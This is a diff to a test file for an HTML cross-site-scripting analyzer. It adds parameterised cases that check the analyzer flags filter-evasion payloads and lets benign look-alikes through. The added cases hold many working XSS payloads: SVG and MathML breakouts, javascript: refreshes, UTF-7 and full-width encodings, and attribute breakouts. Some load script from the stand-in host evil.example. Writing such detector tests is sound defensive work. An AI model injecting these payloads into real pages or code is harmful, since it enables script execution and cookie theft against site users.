@@ -47,8 +47,62 @@ describe("html analyzer: markup that runs script", () => {
   });
 });
 
+describe("html analyzer: browsers' tolerance and other readings of markup", () => {
+  const tabs = "&Tab;".repeat(40);
+  test.each([
+    ["<img src=`xx:xx`onerror=alert(1)>", "backtick as a quote (old IE)"],
+    ["<img/src=` onerror=alert(1)>", "a backtick that opens an unquoted value"],
+    ["<x foo='><img src=x onerror=alert(1)//'>", "markup inside an attribute value"],
+    ['<comment><img src="</comment><img src=x onerror=alert(1)//">', "a closer inside a value"],
+    ["<svg><style><img src=x onerror=alert(1)></style>", "SVG's style is not raw text"],
+    ["<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "math breakout"],
+    ["<custom-el onpointerenter=alert(1)>x", "any tag name with a real event"],
+    ['<svg><script href="//evil.example/x.js"/>', "SVG script source"],
+    ['<svg><a><animate attributeName="href" values=";javascript:alert(1)"/><text>x</text></a></svg>', "animated link"],
+    ['<set attributeName="innerHTML" to="&lt;img src=x onerror=alert(1)&gt;">', "animated markup"],
+    ['<meta http-equiv="refresh" content="0;javascript:alert(1)">', "refresh without url="],
+    ['<meta http-equiv="refresh" content="0; URL=http://;URL=javascript:alert(1);">', "refresh, last url="],
+    [`<iframe src="j${tabs}avascript:alert(1)">`, "a scheme padded past 64 characters"],
+    ['<base href="//evil.example/">', "a base elsewhere"],
+    ['<embed src="//evil.example/x.swf" allowscriptaccess=always>', "a plug-in"],
+    ['<v:vmlframe src="//evil.example/x.vml">', "a VML frame"],
+    ['<style type="text/javascript">alert(1)</style>', "JavaScript style sheet"],
+    ["<style>@import 'http://evil.example/x.css';</style>", "a remote stylesheet"],
+    ['<x style="behavior: url(//evil.example/x.htc)">', "an HTC behavior"],
+    [`<a style='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert(1))'>`, "a comment opener inside a CSS string"],
+    ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "UTF-7"],
+    ["\xbcscript\xbealert(1)\xbc/script\xbe", "US-ASCII with the high bit set"],
+    ["\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "full-width brackets"],
+  ])("%s (%s)", (text) => {
+    expect(top(text)).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test.each([
+    ['<a title="<b>bold</b>">x</a>'],
+    ['<style>@import url("/css/site.css");</style>'],
+    ['<v:shape style="behavior:url(#default#VML)">'],
+    ['<meta http-equiv="refresh" content="5;url=/next">'],
+    ["a 5\xbc inch floppy, \xbclb burger, \xbe done"],
+    ["C++ and A+B=C, +ADD-ON pack"],
+    ['<img src="a.png" alt="`quoted`">'],
+    ["\uff1c\u6ce8\u610f\uff1e please read"],
+  ])("benign: %s", (text) => {
+    expect(top(text)).toBeLessThan(0.8);
+  });
+});
+
+describe("html analyzer: script URLs inside a value", () => {
+  test.each([["?url=javascript:alert(1)"], ["a=k:v;m:url(javascript:alert(1))"], ["feed:javascript:alert(document.cookie)"]])("%s", (text) => {
+    expect(top(text)).toBeGreaterThanOrEqual(0.8);
+  });
+  test("a mentioned or no-op script URL is not one", () => {
+    expect(top("links like javascript:void(0) do nothing")).toBeLessThan(0.8);
+    expect(top("myjavascript:alert(1)")).toBeLessThan(0.8);
+  });
+});
+
 describe("html analyzer: attribute breakouts without a tag", () => {
-  test.each([['" onmouseover="alert(1)'], ["' autofocus onfocus=alert(1) x='"], ["x onerror=alert(1)"]])("%s", (text) => {
+  test.each([['" onmouseover="alert(1)'], ["' autofocus onfocus=alert(1) x='"], ["x onerror=alert(1)"], ["' onselect=$.getScript('//evil.example') '"]])("%s", (text) => {
     expect(top(text)).toBeGreaterThanOrEqual(0.8);
     expect(analyze(text).some((f) => f.rule === "html.attr-breakout-handler")).toBe(true);
   });
@@ -92,6 +146,9 @@ describe("html analyzer: benign look-alikes stay below 0.8", () => {
     ["styled.div`color: red`"],
     ["price=(a+b)*2"],
     ["document.cookie"],
+    ["Please confirm your location and write to the domain admin (see the import notes) for a prompt reply."],
+    ['{"location":"Paris","href":"/x","alert":false,"tags":["a","b"]}'],
+    ["' onclick=ok '"],
   ])("%s", (text) => {
     expect(top(text)).toBeLessThan(0.8);
   });
